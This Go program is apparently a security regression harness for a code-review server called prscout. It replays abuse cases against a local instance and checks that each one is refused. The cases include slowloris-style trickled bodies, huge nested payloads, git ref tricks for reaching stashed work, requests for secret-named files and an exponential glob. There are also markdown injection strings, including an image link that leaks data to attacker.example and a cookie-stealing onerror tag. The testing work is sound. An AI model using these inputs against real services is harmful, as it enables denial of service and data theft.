// Command abuse replays the attacks of the hardening issue against a running
// prscout on loopback and prints one line per class: "held" when the server
// answered as it should (a quick 4xx or an explained verdict, nothing
// leaked, nothing followed), "failed" otherwise, "skip" when the class needs
// something a local run does not have. It then checks that the server is
// alive, that its RSS is back under -max-rss-mb and that its goroutines are
// back to the baseline. It exits 1 when a class or a final check failed.
//
// It builds its own fixture: a git repository with a main and a feature
// branch, a branch of large files, committed secret-named files and
// stashed (uncommitted) work; a fake n8n that records forwards and
// redirects some of them to a "thief" endpoint. The prscout binary (-bin)
// runs the local git provider on that repository with API keys, a metrics
// token and the webhook relay on. The checks look at answers only, so the
// script can be rerun unchanged when a class is fixed.
//
//	go run ./scripts/abuse -bin /tmp/prscout
package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/prscout/prscout/bitbucket"
)

const (
	apiKey        = "abuse-api-key-0123456789abcdef"
	metricsToken  = "abuse-metrics-token-0123456789"
	webhookSecret = "abuse-webhook-secret"
	forwardToken  = "n8n-header-auth-token"
	stashMarker   = "STASHED-WORK-NEVER-COMMITTED"
	secretMarker  = "SECRET-FILE-CONTENT"
)

var (
	bin         = flag.String("bin", "", "prscout binary (required)")
	maxRSSMB    = flag.Int("max-rss-mb", 150, "RSS the server must be back under after the run (MB)")
	settle      = flag.Duration("settle", 90*time.Second, "how long RSS and goroutines may take to come back")
	slowAfter   = flag.Duration("quick", 5*time.Second, "an answer slower than this is not quick")
	round2Only  = flag.Bool("round2-only", false, "run only the second round's classes (round2.go, round2b.go)")
	writersOnly = flag.Bool("writers-only", false, "run only the comment writers' and groups' classes (round2b.go)")
	failures    atomic.Int32
	out         sync.Mutex
)

func main() {
	flag.Parse()
	if *bin == "" {
		fmt.Fprintln(os.Stderr, "usage: abuse -bin PRSCOUT_BINARY")
		os.Exit(2)
	}
	if *threadOnly {
		os.Exit(threadRound3Only(*bin))
	}
	work, err := os.MkdirTemp("", "prscout-abuse-")
	must(err)
	defer os.RemoveAll(work)
	if *budgetOnly {
		budgetShapes(*bin, work)
		os.RemoveAll(work)
		os.Exit(min(1, int(failures.Load())))
	}
	repo := filepath.Join(work, "repo")
	fx := buildRepo(repo)
	addHugeBranch(&fx)

	n8n := newFakeN8N()
	defer n8n.close()

	srv := start(*bin, repo, n8n.url())
	defer srv.stop()
	srvBase = srv.base
	baseGoroutines := srv.metric("go_goroutines")
	fmt.Printf("prscout pid %d on %s; baseline: %.0f goroutines, RSS %d MB\n\n", srv.cmd.Process.Pid, srv.base, baseGoroutines, rssKB(srv.cmd.Process.Pid)/1024)

	// Classes that take long (they wait out the server's timeouts) run in
	// the background while the others go on.
	var slow sync.WaitGroup
	if !*round2Only && !*writersOnly {
		inflightCapped(srv) // first: it needs every in-flight slot free
		slow.Add(2)
		go func() { defer slow.Done(); slowBody(srv) }()
		go func() { defer slow.Done(); slowReader(srv, fx) }()

		nesting(srv)
		statementsAndParams(srv)
		needsAndLists(srv, fx)
		refs(srv, fx)
		secretPaths(srv, fx)
		scoutBudget(srv, fx)
		markdownInjection(srv, fx)
		webhooks(srv, n8n)
		metricsProtected(srv)
		shortAPIKey(*bin, repo)
		skip("marker-trust", "a forged marker without an identity needs the Bitbucket provider (GET /user)")
		globs(srv, fx)
		slow.Wait()
	}
	// Second round (round2.go), one after the other: each measures the
	// server's RSS on its own.
	if !*writersOnly {
		webhookFlood(srv)
		webhookRetryInFlight(srv, n8n)
		sarifRules(*bin, work)
		mirrorClasses(*bin, work, fx)
	}
	// The comment writers and review groups (round2b.go).
	sanitizerNesting(srv, fx)
	criteriaTable(srv, fx)
	groupIDs(srv, fx)
	threadRound3(*bin, work) // third round's thread shapes (round3thread.go)
	memoryUnreviewed(*bin, work)
	candidatesBudget(srv, fx)
	sharedNames(srv, fx)
	budgetShapes(*bin, work) // each on its own server (budget.go)

	fmt.Println()
	finalChecks(srv, baseGoroutines)
	if n := failures.Load(); n > 0 {
		fmt.Printf("\n%d check(s) failed\n", n)
		srv.stop() // os.Exit runs no deferred call
		os.RemoveAll(work)
		os.Exit(1)
	}
	fmt.Println("\nall classes held")
}

// report prints one class line.
func report(held bool, class, format string, args ...any) {
	out.Lock()
	defer out.Unlock()
	word := "held  "
	if !held {
		word = "failed"
		failures.Add(1)
	}
	fmt.Printf("%s %-26s %s\n", word, class, fmt.Sprintf(format, args...))
}

func skip(class, why string) {
	out.Lock()
	defer out.Unlock()
	fmt.Printf("skip   %-26s %s\n", class, why)
}

// ---- fixture ----

func nesting(srv *proc) {
	cases := []struct {
		class string
		typ   string
		param map[string]any
	}{
		{"nesting-parens", "n8n-nodes-base.code", map[string]any{"jsCode": strings.Repeat("(", 1_000_000) + "1" + strings.Repeat(")", 1_000_000)}},
		{"nesting-arrays", "n8n-nodes-base.code", map[string]any{"jsCode": "x = " + strings.Repeat("[", 300_000) + strings.Repeat("]", 300_000)}},
		{"nesting-objects", "n8n-nodes-base.code", map[string]any{"jsCode": "x = " + strings.Repeat("{a:", 200_000) + "1" + strings.Repeat("}", 200_000)}},
		{"nesting-expression", "n8n-nodes-base.set", map[string]any{"value": "={{ " + strings.Repeat("(", 1_000_000) + " }}"}},
		{"nested-blocks-500k", "n8n-nodes-base.code", map[string]any{"jsCode": strings.Repeat("{", 500_000) + strings.Repeat("}", 500_000)}},
	}
	for _, tc := range cases {
		a := post("/v1/workflows/validate", workflow(tc.typ, tc.param), 150*time.Second)
		ok, what := refusedNode(a)
		report(ok && quick(a) && srv.alive(), tc.class, "validate: %s, %s", a, what)
	}
}

func statementsAndParams(srv *proc) {
	a := post("/v1/workflows/validate", workflow("n8n-nodes-base.code", map[string]any{"jsCode": strings.Repeat("x = x + 1;\n", 2_300_000)}), 250*time.Second)
	ok, what := refusedNode(a)
	report(ok && quick(a), "statements-25MB", "validate: %s, %s", a, what)

	depth := 630_000 / len(`{"a":}`)
	params := strings.Repeat(`{"a":`, depth) + `"={{ 1 }}"` + strings.Repeat("}", depth)
	body := []byte(`{"name":"abuse","nodes":[{"name":"n","type":"n8n-nodes-base.set","parameters":` + params + `}],"connections":{}}`)
	before := rssKB(srv.cmd.Process.Pid)
	a = call("POST", "/v1/workflows/validate", body, 150*time.Second)
	after := rssKB(srv.cmd.Process.Pid)
	ok, what = refusedNode(a)
	report(ok && quick(a) && after-before < 100<<10, "nested-params-630KB", "validate: %s, %s; RSS %d -> %d MB", a, what, before/1024, after/1024)
}

func needsAndLists(srv *proc, fx fixture) {
	var b strings.Builder
	b.WriteString(`{"workspace":"acme","repoSlug":"app","ref":"` + fx.featureSHA + `","files":[{"path":"a.go"}],"scout":{"files":[{"path":"a.go","needs":[`)
	for i := 0; i < 700_000; i++ {
		if i > 0 {
			b.WriteByte(',')
		}
		b.WriteString(`"x"`)
	}
	b.WriteString(`]}]}}`)
	body := []byte(b.String())
	var wg sync.WaitGroup
	answers := make([]answer, 6)
	for i := range answers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			answers[i] = call("POST", "/v1/needs", body, 120*time.Second)
		}()
	}
	wg.Wait()
	held := true
	var codes []string
	for _, a := range answers {
		msg := fmt.Sprint(a.json()["message"])
		refused := (a.code == 413 || a.code == 422) && strings.Contains(msg, "PRSCOUT_") || a.code == 429
		held = held && refused && quick(a)
		codes = append(codes, a.String())
	}
	rss := rssKB(srv.cmd.Process.Pid) / 1024
	report(held && rss < 2**maxRSSMB, "needs-700k-x6", "needs: %s; %q; RSS %d MB", strings.Join(codes, ", "), firstMessage(answers), rss)

	files := make([]map[string]any, 5000)
	for i := range files {
		files[i] = map[string]any{"path": fmt.Sprintf("f%d.go", i), "diff": ""}
	}
	a1 := post("/v1/needs", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "files": files, "scout": "[]"}, 60*time.Second)
	a2 := post("/v1/merge", map[string]any{"context": map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "files": files}, "results": []any{}}, 60*time.Second)
	a3 := post("/v1/comments", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "files": files, "review": "{}", "dryRun": true}, 60*time.Second)
	namesLimit := func(a answer, field string) bool {
		m := a.json()
		return a.code/100 == 4 && m["field"] == field && strings.Contains(fmt.Sprint(m["message"]), "PRSCOUT_") && quick(a)
	}
	report(namesLimit(a1, "files") && namesLimit(a2, "files") && namesLimit(a3, "files"), "files-5000", "needs %s, merge %s, comments %s: %q", a1, a2, a3, a1.json()["message"])

	reqs := make([]map[string]any, 5000)
	for i := range reqs {
		reqs[i] = map[string]any{"op": "get_file", "path": "a.go"}
	}
	a := post("/v1/repository/batch", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "requests": reqs}, 60*time.Second)
	report(namesLimit(a, "requests"), "batch-5000", "batch: %s: %q", a, a.json()["message"])
}

func firstMessage(as []answer) string {
	for _, a := range as {
		if m := a.json(); m != nil && m["message"] != nil {
			return fmt.Sprint(m["message"])
		}
	}
	return ""
}

// trickle opens a connection and sends a request whose body comes one byte
// per interval; it returns the connection (the caller closes it).
func trickle(srv *proc, path string, length int) net.Conn {
	conn, err := net.Dial("tcp", strings.TrimPrefix(srv.base, "http://"))
	must(err)
	fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: abuse\r\nX-API-Key: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", path, apiKey, length)
	return conn
}

// slowBody: a body trickled at 1 byte / 5 s must be cut well before 90 s.
func slowBody(srv *proc) {
	conn := trickle(srv, "/v1/needs", 1000)
	defer conn.Close()
	start := time.Now()
	done := make(chan string, 1)
	go func() {
		resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			done <- "connection closed (" + err.Error() + ")"
			return
		}
		body, _ := io.ReadAll(resp.Body)
		done <- fmt.Sprintf("%d %s", resp.StatusCode, bytes.TrimSpace(body))
	}()
	tick := time.NewTicker(5 * time.Second)
	defer tick.Stop()
	for {
		select {
		case got := <-done:
			d := time.Since(start)
			report(d < 60*time.Second, "slow-body-1B-per-5s", "cut after %s: %.120s", round(d), got)
			return
		case <-tick.C:
			if time.Since(start) > 100*time.Second {
				report(false, "slow-body-1B-per-5s", "still held after %s", round(time.Since(start)))
				return
			}
			_, _ = conn.Write([]byte(" "))
		}
	}
}

// slowReader: a client that asks for a large answer and never reads it
// must not hold the server: the write is given up after the write timeout.
func slowReader(srv *proc, fx fixture) {
	body, _ := json.Marshal(map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": fx.bigSHA})
	d := net.Dialer{Control: func(_, _ string, c syscall.RawConn) error {
		return c.Control(func(fd uintptr) { _ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4096) })
	}}
	conn, err := d.Dial("tcp", strings.TrimPrefix(srv.base, "http://"))
	must(err)
	defer conn.Close()
	fmt.Fprintf(conn, "POST /v1/context HTTP/1.1\r\nHost: abuse\r\nConnection: close\r\nX-API-Key: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", apiKey, len(body), body)
	start := time.Now()
	// Never read, for longer than the server's write timeout (60s by default).
	time.Sleep(75 * time.Second)
	_ = conn.SetReadDeadline(time.Now().Add(20 * time.Second))
	var got bytes.Buffer
	_, err = io.Copy(&got, conn)
	complete := bytes.HasSuffix(got.Bytes(), []byte("0\r\n\r\n")) || bytes.HasSuffix(bytes.TrimSpace(got.Bytes()), []byte("}"))
	var ne net.Error
	switch {
	case errors.As(err, &ne) && ne.Timeout():
		report(false, "slow-reader", "the server still holds the stalled answer after %s (%d bytes read)", round(time.Since(start)), got.Len())
	case complete:
		// The kernel's buffers took the whole answer, so the server never
		// had to wait for this client: nothing to prove either way here.
		skip("slow-reader", fmt.Sprintf("the whole answer (%d bytes) fit in the socket buffers: the write never blocked", got.Len()))
	default:
		report(true, "slow-reader", "server gave the unread answer up: %d bytes had been sent, then the connection closed (%v)", got.Len(), err)
	}
}

// inflightCapped: past PRSCOUT_MAX_INFLIGHT heavy requests, the next gets
// 429 with Retry-After at once.
func inflightCapped(srv *proc) {
	var conns []net.Conn
	for i := 0; i < 8; i++ {
		conns = append(conns, trickle(srv, "/v1/context", 100))
	}
	time.Sleep(500 * time.Millisecond)
	a := call("POST", "/v1/needs", []byte(`{}`), 10*time.Second)
	for _, c := range conns {
		c.Close()
	}
	m := a.json()
	report(a.code == 429 && a.hdr.Get("Retry-After") != "" && quick(a), "inflight-429", "9th heavy request: %s Retry-After=%q %q", a, a.hdr.Get("Retry-After"), m["message"])
	time.Sleep(200 * time.Millisecond)
}

// ---- refs, secrets, prompts, comments ----

func refs(srv *proc, fx fixture) {
	held := true
	var notes []string
	for _, head := range []string{"stash", "refs/stash", "stash@{0}", "HEAD@{1}", "@{-1}", "refs/abuse/hidden", "feature~1", "feature^", "feature:a.go", "--all"} {
		a := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": head}, 30*time.Second)
		m := a.json()
		ok := a.code == 400 && m["field"] == "head" && !bytes.Contains(a.body, []byte(stashMarker))
		if !ok {
			held = false
			notes = append(notes, fmt.Sprintf("%s -> %s %v", head, a, m["field"]))
		}
	}
	b := post("/v1/repository/batch", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": "stash", "requests": []any{map[string]any{"op": "get_file", "path": "a.go"}}}, 30*time.Second)
	if bytes.Contains(b.body, []byte(stashMarker)) {
		held = false
		notes = append(notes, "batch at stash served the stashed file")
	}
	detail := "stash, refs/stash, stash@{0}, HEAD@{1}, @{-1}, refs/abuse/hidden, ~ ^ : and -- forms: 400 on head, nothing served"
	if !held {
		detail = strings.Join(notes, "; ")
	}
	report(held, "stash-reflog-refs", "%s", detail)

	a := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": "HEAD@{upstream}", "head": fx.featureSHA}, 30*time.Second)
	report(a.code == 400 && a.json()["field"] == "base", "head-upstream-ref", "base HEAD@{upstream}: %s field=%v %q", a, a.json()["field"], a.json()["message"])
}

func secretPaths(srv *proc, fx fixture) {
	var reqs []any
	for _, p := range secretFiles {
		reqs = append(reqs, map[string]any{"op": "get_file", "path": p})
	}
	a := post("/v1/repository/batch", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "requests": reqs}, 30*time.Second)
	var served []string
	var res struct {
		Results []struct {
			OK   bool   `json:"ok"`
			Path string `json:"path"`
		} `json:"results"`
	}
	_ = json.Unmarshal(a.body, &res)
	for _, r := range res.Results {
		if r.OK {
			served = append(served, r.Path)
		}
	}
	report(a.code == 200 && len(served) == 0 && len(res.Results) > 0, "secret-paths", "batch of %d secret-named files: %s, served %v", len(secretFiles), a, served)
}

func scoutBudget(srv *proc, fx fixture) {
	a := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": fx.bigSHA}, 120*time.Second)
	var res struct {
		ScoutPrompt struct{ System, User string } `json:"scoutPrompt"`
	}
	_ = json.Unmarshal(a.body, &res)
	n := len(res.ScoutPrompt.System) + len(res.ScoutPrompt.User)
	const budget = 120_000 // the review prompt's default budget (PRSCOUT_MAX_PROMPT_CHARS)
	report(a.code == 200 && n <= budget, "scout-prompt-budget", "context of %d files x 20 KB: %s, %d bytes, scout prompt %d chars (budget %d)", bigFiles, a, len(a.body), n, budget)
}

func markdownInjection(srv *proc, fx fixture) {
	payloads := []string{
		`<img src=x onerror=alert(document.cookie)>`,
		`[click](javascript:alert(1))`,
		`![pixel](https://attacker.example/leak?d=SECRET)`,
		`@everyone look`,
	}
	review := map[string]any{
		"summary": "Summary " + strings.Join(payloads, " "),
		"findings": []any{map[string]any{"path": "a.go", "line": 3, "severity": "high", "title": "t " + payloads[0],
			"body": strings.Join(payloads, "\n")}},
	}
	rj, _ := json.Marshal(review)
	ctx := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": fx.featureSHA}, 60*time.Second)
	var c struct {
		Files json.RawMessage `json:"files"`
	}
	_ = json.Unmarshal(ctx.body, &c)
	a := post("/v1/comments", map[string]any{"workspace": "acme", "repoSlug": "app", "ref": fx.featureSHA, "files": c.Files, "review": string(rj), "dryRun": true}, 60*time.Second)
	var res struct {
		Markdown string `json:"markdown"`
		Inline   []struct {
			Body string `json:"body"`
		} `json:"inline"`
	}
	_ = json.Unmarshal(a.body, &res)
	all := res.Markdown
	for _, in := range res.Inline {
		all += "\n" + in.Body
	}
	// Only active markup counts: an escaped tag (&lt;img) or a mention in a
	// code span is shown as text, never rendered or notified.
	var active []string
	for name, re := range map[string]*regexp.Regexp{
		"<img tag":             regexp.MustCompile(`<img`),
		"javascript: link":     regexp.MustCompile(`\]\(javascript:`),
		"image":                regexp.MustCompile(`!\[[^\]]*\]\(`),
		"link to another host": regexp.MustCompile(`\]\(https://attacker\.example`),
		"mention outside code": regexp.MustCompile("(^|[^`])@everyone"),
	} {
		if re.MatchString(all) {
			active = append(active, name)
		}
	}
	report(a.code == 200 && all != "" && len(active) == 0, "markdown-injection", "comments dry-run: %s; active markup posted: %q", a, active)
}

// ---- webhook ----

func hook(body []byte, event, uuid string) answer {
	return call("POST", "/v1/webhooks/bitbucket", body, 30*time.Second,
		"X-API-Key", "", "X-Hub-Signature", bitbucket.Sign([]byte(webhookSecret), body), "X-Event-Key", event, "X-Request-UUID", uuid)
}

func webhooks(srv *proc, n8n *fakeN8N) {
	redirect := []byte(`{"actor":{},"pullrequest":{"id":7,"title":"redirect-me"},"repository":{"full_name":"acme/app"}}`)
	a := hook(redirect, "pullrequest:updated", "uuid-redirect")
	report(a.code == 502 && n8n.stolen.Load() == 0, "webhook-redirect", "n8n answered 307 to another host: relay %s, requests that reached the other host: %d", a, n8n.stolen.Load())

	body := []byte(`{"actor":{},"pullrequest":{"id":8,"title":"replay"},"repository":{"full_name":"acme/app"}}`)
	before := n8n.forwards.Load()
	first := hook(body, "pullrequest:updated", "uuid-replay-1")
	same := hook(body, "pullrequest:updated", "uuid-replay-1")
	newUUID := hook(body, "pullrequest:updated", "uuid-replay-2")
	got := n8n.forwards.Load() - before
	report(first.code == 202 && got == 1, "webhook-replay", "one delivery sent 3 times (same UUID, then a new UUID): forwarded %d time(s); answers %s %v, %s %v, %s %v",
		got, first, first.json()["status"], same, same.json()["status"], newUUID, newUUID.json()["status"])

	comment := []byte(`{"actor":{},"pullrequest":{"id":9},"repository":{"full_name":"acme/app"},"comment":{"id":1,"content":{"raw":"hi"}}}`)
	a = hook(comment, "pullrequest:updated", "uuid-mismatch")
	report(a.code == 400, "webhook-event-key-mismatch", "a comment's signed body under pullrequest:updated: %s %v", a, a.json()["error"])
}

func metricsProtected(srv *proc) {
	resp, err := http.Get(srv.base + "/metrics")
	code := 0
	if err == nil {
		code = resp.StatusCode
		resp.Body.Close()
	}
	with := srv.metric("go_goroutines")
	report(code == 401 && with >= 0, "metrics-without-key", "/metrics with PRSCOUT_METRICS_TOKEN set: %d without the token, readable with it: %v", code, with >= 0)
}

func shortAPIKey(bin, repo string) {
	cmd := exec.Command(bin, "serve")
	cmd.Env = append(os.Environ(), "PRSCOUT_ADDR=0.0.0.0:0", "PRSCOUT_API_KEYS=short-key", "PRSCOUT_LOCAL_ROOT="+repo)
	outb, err := cmd.CombinedOutput()
	code := 0
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		code = ee.ExitCode()
	}
	msg := strings.TrimSpace(string(outb))
	report(code == 2 && strings.Contains(msg, "PRSCOUT_API_KEYS"), "short-api-key-off-loopback", "exit %d: %.160s", code, strings.ReplaceAll(msg, "\n", " "))
}

// ---- globs and the client going away ----

func globs(srv *proc, fx fixture) {
	// A pattern that matches no changed path makes a backtracking matcher
	// try every one of the 2^22 brace combinations for each path.
	glob := strings.Repeat("{,}", 22) + "*.nomatch"
	a := post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": fx.featureSHA, "include": []string{glob}}, 5*time.Second)
	m := a.json()
	held := a.err == nil && (a.code == 400 && strings.Contains(fmt.Sprint(m["field"]), "include") || a.code/100 == 2 && a.dur < 2*time.Second)
	detail := ""
	if m["message"] != nil {
		detail = fmt.Sprintf(": field %v, %.100v", m["field"], m["message"])
	}
	report(held, "glob-exponential", "include {,}x22*.nomatch on %d changed files: %s%s", len(fx.changed), a, detail)

	// A costlier pattern whose client gives up after 2s: the request must
	// not keep running on the server. First let the request above end (the
	// scrape itself is the one request in flight then).
	idle := time.Now().Add(*settle)
	for time.Now().Before(idle) && srv.metric("prscout_http_requests_in_flight") > 1 {
		time.Sleep(500 * time.Millisecond)
	}
	base := srv.metric("prscout_http_requests_in_flight")
	slow := strings.Repeat("{,}", 25) + "*.nomatch"
	a = post("/v1/context", map[string]any{"workspace": "acme", "repoSlug": "app", "base": fx.mainSHA, "head": fx.featureSHA, "include": []string{slow}}, 2*time.Second)
	if a.err == nil {
		report(true, "client-gone-stops-work", "include {,}x25*.nomatch answered before the client left: %s", a)
		return
	}
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) && srv.metric("prscout_http_requests_in_flight") > base {
		time.Sleep(100 * time.Millisecond)
	}
	left := srv.metric("prscout_http_requests_in_flight") - base
	report(left <= 0, "client-gone-stops-work", "include {,}x25*.nomatch, client gone after 2s; 3s later %.0f request(s) still running on the server", max(left, 0))
}

// ---- final checks ----

func finalChecks(srv *proc, baseGoroutines float64) {
	client.CloseIdleConnections()
	deadline := time.Now().Add(*settle)
	var rss int
	var g, running float64
	alive := false
	for {
		resp, err := http.Get(srv.base + "/healthz")
		alive = err == nil && resp.StatusCode == 200
		if resp != nil {
			resp.Body.Close()
		}
		rss = rssKB(srv.cmd.Process.Pid) / 1024
		g = srv.metric("go_goroutines")
		// The scrape itself is one request in flight.
		running = srv.metric("prscout_http_requests_in_flight") - 1
		client.CloseIdleConnections()
		if !alive || (rss < *maxRSSMB && g <= baseGoroutines+2 && running <= 0) || time.Now().After(deadline) {
			break
		}
		time.Sleep(time.Second)
	}
	report(alive, "server-alive", "GET /healthz after the run: %v", alive)
	report(running <= 0, "requests-finished", "%.0f request(s) still running %s after the run", max(running, 0), round(time.Since(deadline.Add(-*settle))))
	report(rss >= 0 && rss < *maxRSSMB, "rss-after", "RSS %d MB (limit %d MB)", rss, *maxRSSMB)
	report(g >= 0 && g <= baseGoroutines+2, "goroutines-after", "%.0f goroutines (baseline %.0f)", g, baseGoroutines)
}

func must(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, "abuse:", err)
		os.Exit(2)
	}
}
